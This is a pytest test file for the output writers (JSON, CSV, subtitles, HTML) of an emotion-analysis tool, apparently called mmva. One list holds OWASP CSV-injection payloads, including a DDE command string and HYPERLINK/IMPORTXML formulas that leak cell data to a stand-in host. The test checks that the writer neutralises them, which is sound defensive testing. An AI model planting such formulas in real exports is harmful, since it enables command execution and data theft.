"""Output writers: every format carries the timeline's content and reads back with standard tools."""

from __future__ import annotations

import csv
import io
import json
import shutil
from html.parser import HTMLParser
from pathlib import Path

import numpy as np
import pysubs2
import pytest

from mmva.analyze.subtitles import read_subtitles
from mmva.analyze.timeline import SCHEMA_VERSION, Timeline, apply_prediction
from mmva.analyze.writers import (FORMATS, OutputError, check_output_dir, get_writer, output_stem, parse_formats,
                                  plan_outputs, write_outputs)
from mmva.io import storage
from mmva.labels import EMOTIONS, SENTIMENTS
from mmva.types import Utterance


def _pred(emotion: int, sentiment: int, modalities: list[str], sharp: float = 0.8) -> dict:
    e = np.full(7, (1 - sharp) / 6)
    e[emotion] = sharp
    s = np.full(3, (1 - sharp) / 2)
    s[sentiment] = sharp
    return {"emotion": e.astype(np.float32), "sentiment": s.astype(np.float32), "modalities": modalities,
            "per_modality": {m: {"emotion": e.tolist(), "sentiment": s.tolist()} for m in modalities}}


@pytest.fixture()
def timeline() -> Timeline:
    utts = [
        Utterance(text="I love this, \"truly\"!", start_time=0.5, end_time=2.0),
        Utterance(text="This is <b>awful</b>\nreally.", start_time=3.0, end_time=7.0),
        Utterance(text="", start_time=8.0, end_time=9.0),  # nothing observed: no prediction
        Utterance(text="Wow.", start_time=9.5, end_time=10.0),
    ]
    preds = [_pred(3, 2, ["text", "video"]), _pred(0, 0, ["text", "audio", "video"], 0.6), None,
             _pred(6, 1, ["text"])]
    for u, p in zip(utts, preds):
        apply_prediction(u, p, k=3)
    return Timeline(source="talks/interview.mp4", duration=10.5, utterances=utts, segmentation="asr",
                    model={"name": "test"}, problems=["no face in 1 utterance"])


def test_json_keeps_the_original_fields_and_round_trips(timeline):
    data = json.loads(get_writer("json").to_string(timeline))
    assert data["schema_version"] == SCHEMA_VERSION
    first = data["utterances"][0]
    assert list(first)[:5] == ["start_time", "end_time", "text", "emotions", "sentiments"]
    assert first["emotions"][0] == {"label": "joy", "confidence": pytest.approx(0.8, abs=1e-4)}
    assert [e["confidence"] for e in first["emotions"]] == sorted((e["confidence"] for e in first["emotions"]),
                                                                  reverse=True)
    assert len(first["emotions"]) == 3 and len(first["sentiments"]) == 3
    assert set(first["per_modality"]) == {"text", "video"} and first["modalities"] == ["text", "video"]
    assert sum(first["emotion_probs"].values()) == pytest.approx(1.0, abs=1e-3)
    assert data["utterances"][2]["emotions"] == [] and data["utterances"][2]["modalities"] == []
    summary = data["summary"]
    # 4 s of anger vs 1.5 s of joy and 0.5 s of surprise; the unpredicted utterance takes no share
    assert summary["dominant_emotion"] == "anger"
    assert summary["emotion_share"]["anger"] == pytest.approx(4 / 6, abs=1e-3)
    assert summary["n_utterances"] == 4 and summary["n_predicted"] == 3
    assert summary["modality_usage"] == {"text": 3, "audio": 1, "video": 2}
    scores = [b["score"] for b in summary["sentiment_over_time"] if b["score"] is not None]
    assert min(scores) < 0 < max(scores)
    again = Timeline.from_dict(data)
    assert json.loads(get_writer("json").to_string(again)) == data


def test_csv_has_one_row_per_utterance_with_probabilities(timeline):
    rows = list(csv.DictReader(io.StringIO(get_writer("csv").to_string(timeline))))
    assert len(rows) == 4
    assert rows[0]["text"] == "I love this, \"truly\"!" and rows[1]["text"] == "This is <b>awful</b>\nreally."
    assert rows[0]["emotion"] == "joy" and rows[1]["sentiment"] == "negative"
    assert rows[1]["modalities"] == "text+audio+video"
    assert sum(float(rows[0][f"p_emotion_{e}"]) for e in EMOTIONS) == pytest.approx(1.0, abs=1e-3)
    assert sum(float(rows[0][f"p_sentiment_{s}"]) for s in SENTIMENTS) == pytest.approx(1.0, abs=1e-3)
    assert rows[2]["emotion"] == "" and rows[2]["p_emotion_joy"] == ""


@pytest.mark.parametrize("fmt", ["srt", "vtt"])
def test_subtitles_carry_the_emotion_in_each_cue(timeline, tmp_path, fmt):
    path = tmp_path / f"out.{fmt}"
    get_writer(fmt).write(timeline, str(path))
    subs = pysubs2.load(str(path))
    assert [(e.start, e.end) for e in subs] == [(500, 2000), (3000, 7000), (8000, 9000), (9500, 10000)]
    assert subs[0].plaintext.startswith("[joy 80% · positive] I love this")
    assert subs[1].plaintext.startswith("[anger 60% · negative]")
    back = read_subtitles(str(path))  # our own reader takes the file as segmentation input again
    assert [u.start_time for u in back] == [0.5, 3.0, 8.0, 9.5]
    if fmt == "vtt":
        assert path.read_text().startswith("WEBVTT")


def test_subtitles_skip_utterances_without_times(timeline):
    timeline.utterances.append(Utterance(text="no time"))
    assert "no time" not in get_writer("srt").to_string(timeline)


class _Collect(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict]] = []
        self.text: list[str] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data):
        self.text.append(data)


def test_html_report_is_self_contained_with_plot_and_table(timeline):
    html = get_writer("html").to_string(timeline)
    parser = _Collect()
    parser.feed(html)
    tags = parser.tags
    # nothing loaded from elsewhere: no external scripts, styles, images or fonts
    for tag, attrs in tags:
        for key in ("src", "href"):
            assert not attrs.get(key), f"<{tag} {key}={attrs.get(key)}> loads an external resource"
    assert "http://" not in html and "https://" not in html
    bars = [a for t, a in tags if t == "rect" and a.get("class") == "utt"]
    assert len(bars) == 3  # one per predicted utterance
    assert any(t == "polyline" for t, _ in tags)  # sentiment line
    rows = [t for t, _ in tags if t == "tr"]
    assert len(rows) == 1 + 4  # header + utterances
    text = "".join(parser.text)
    assert "This is <b>awful</b>" in text  # escaped in the markup, shown literally
    assert "<b>awful</b>" not in html
    assert "no face in 1 utterance" in text and "anger" in text


def test_formats_and_paths(timeline, tmp_path):
    assert parse_formats("json, HTML") == ["json", "html"]
    assert parse_formats("all") == list(FORMATS)
    with pytest.raises(ValueError, match="unknown output format 'pdf'"):
        parse_formats("json,pdf")
    assert output_stem("s3://b/x/talk.final.mp4") == "talk.final.mmva"
    written = write_outputs(timeline, str(tmp_path / "out"), list(FORMATS))
    assert [p.rsplit(".", 1)[1] for p in written] == list(FORMATS)
    assert all((tmp_path / "out" / f"interview.mmva.{ext}").stat().st_size > 0 for ext in FORMATS)
    assert not list((tmp_path / "out").glob(".*tmp"))  # atomic writes leave no temp files


def test_output_names_never_collide():
    # talk.mp4 and talk.wav side by side keep their extensions; others keep the short name
    assert plan_outputs(["c/talk.mp4", "c/talk.wav", "c/notes.txt"], "out") == {
        "c/talk.mp4": ("out", "talk.mp4.mmva"), "c/talk.wav": ("out", "talk.wav.mmva"),
        "c/notes.txt": ("out", "notes.mmva")}
    # the same name in different folders: the differing part of the path becomes a sub-folder
    assert plan_outputs(["a/talk.mp4", "b/x/talk.mp4"], "out") == {
        "a/talk.mp4": ("out/a", "talk.mmva"), "b/x/talk.mp4": ("out/b/x", "talk.mmva")}
    assert plan_outputs(["s3://in/a/talk.mp4", "s3://in/b/talk.mp4"], "s3://out/r") == {
        "s3://in/a/talk.mp4": ("s3://out/r/a", "talk.mmva"), "s3://in/b/talk.mp4": ("s3://out/r/b", "talk.mmva")}
    # names that differ only in case are one file on macOS and Windows disks
    plan = plan_outputs(["Talk.mp4", "talk.mp4", "TALK.wav"], "out")
    assert len({(d, stem.casefold()) for d, stem in plan.values()}) == 3
    # a folder given on the command line keeps its sub-folders
    assert plan_outputs(["in/sub/v.wav", "in/v.wav"], "out", roots=["in"]) == {
        "in/sub/v.wav": ("out/sub", "v.mmva"), "in/v.wav": ("out", "v.mmva")}


def test_an_output_written_earlier_in_the_command_is_not_overwritten(timeline, tmp_path):
    written: set[str] = set()
    first = write_outputs(timeline, str(tmp_path), ["json", "csv"], written=written)
    before = Path(first[0]).read_text()
    other = Timeline(source="elsewhere/interview.wav", utterances=[])
    with pytest.raises(OutputError, match="interview.mmva.json: already written by this command"):
        write_outputs(other, str(tmp_path), ["srt", "json"], written=written)
    assert Path(first[0]).read_text() == before and not (tmp_path / "interview.mmva.srt").exists()
    write_outputs(other, str(tmp_path), ["json"])  # a later command may replace it, as before


def test_unwritable_destination_is_named_before_any_work(tmp_path):
    blocker = tmp_path / "file.txt"
    blocker.write_text("x")
    with pytest.raises(OutputError, match=r"file.txt/out: cannot write outputs here"):
        check_output_dir(str(blocker / "out"))
    check_output_dir(str(tmp_path / "new" / "folder"))  # created
    assert (tmp_path / "new" / "folder").is_dir() and not list((tmp_path / "new" / "folder").iterdir())


# OWASP CSV injection payloads: each must reach a spreadsheet as text, not as a formula.
OWASP_CSV = ["=1+2", "=cmd|' /C calc'!A0", "+1+2", "-1+2", "@SUM(1+2)", "\t=1+2", "\r=1+2",
             '=HYPERLINK("http://evil.example/?leak="&A1,"click")', "=IMPORTXML(CONCAT(\"http://x/\", A1), \"//a\")"]


def test_csv_cells_never_start_a_formula(timeline):
    timeline.utterances = [Utterance(text=t, start_time=i, end_time=i + 1.0) for i, t in enumerate(OWASP_CSV)]
    rows = list(csv.DictReader(io.StringIO(get_writer("csv").to_string(timeline))))
    assert len(rows) == len(OWASP_CSV)
    for row, payload in zip(rows, OWASP_CSV):
        assert row["text"] == "'" + payload  # the apostrophe makes the cell text; the words stay
        assert row["text"][0] not in "=+-@\t\r"
    timeline.utterances[0].text = "fine - really"
    assert list(csv.DictReader(io.StringIO(get_writer("csv").to_string(timeline))))[0]["text"] == "fine - really"


def test_outputs_to_s3(timeline, s3_bucket):
    written = write_outputs(timeline, f"{s3_bucket}/results", ["json", "srt"])
    assert written == [f"{s3_bucket}/results/interview.mmva.json", f"{s3_bucket}/results/interview.mmva.srt"]
    assert json.loads(storage.read_text(written[0]))["utterances"][0]["emotions"][0]["label"] == "joy"


CHROMIUM = shutil.which("chromium") or "/usr/bin/chromium"
CHROMEDRIVER = shutil.which("chromedriver") or "/usr/bin/chromedriver"


@pytest.mark.skipif(not (Path(CHROMIUM).exists() and Path(CHROMEDRIVER).exists()),
                    reason="Debian chromium and chromium-driver are not installed")
def test_html_report_renders_offline_in_a_real_browser(timeline, tmp_path):
    from selenium import webdriver
    from selenium.webdriver.chrome.service import Service
    from selenium.webdriver.common.by import By

    page = tmp_path / "report.html"
    get_writer("html").write(timeline, str(page))
    options = webdriver.ChromeOptions()
    options.binary_location = CHROMIUM
    for arg in ("--headless=new", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage",
                "--disable-background-networking", "--no-first-run", "--window-size=1200,900",
                f"--user-data-dir={tmp_path / 'profile'}"):
        options.add_argument(arg)
    driver = webdriver.Chrome(service=Service(CHROMEDRIVER), options=options)
    try:
        driver.get(page.as_uri())
        bars = driver.find_elements(By.CSS_SELECTOR, "svg rect.utt")
        assert len(bars) == 3 and all(b.size["width"] > 0 for b in bars)
        # the bars are laid out in time order across the plot
        xs = [b.location["x"] for b in bars]
        assert xs == sorted(xs)
        assert len(driver.find_elements(By.CSS_SELECTOR, "tbody tr")) == 4
        # the report fetched nothing: no resource requests at all
        assert driver.execute_script("return performance.getEntriesByType('resource').length") == 0
        assert "interview.mp4" in driver.title
    finally:
        driver.quit()


def test_a_rewritten_output_keeps_its_permissions(timeline, tmp_path):
    import os
    import stat

    path = Path(write_outputs(timeline, str(tmp_path), ["json"])[0])
    os.chmod(path, 0o640)  # the user restricted who may read the results
    write_outputs(timeline, str(tmp_path), ["json"])
    assert stat.S_IMODE(path.stat().st_mode) == 0o640
    fresh = Path(write_outputs(timeline, str(tmp_path / "new"), ["json"])[0])
    assert stat.S_IMODE(fresh.stat().st_mode) == 0o666 & ~_umask()


def _umask() -> int:
    from mmva.io.storage import _UMASK

    return _UMASK
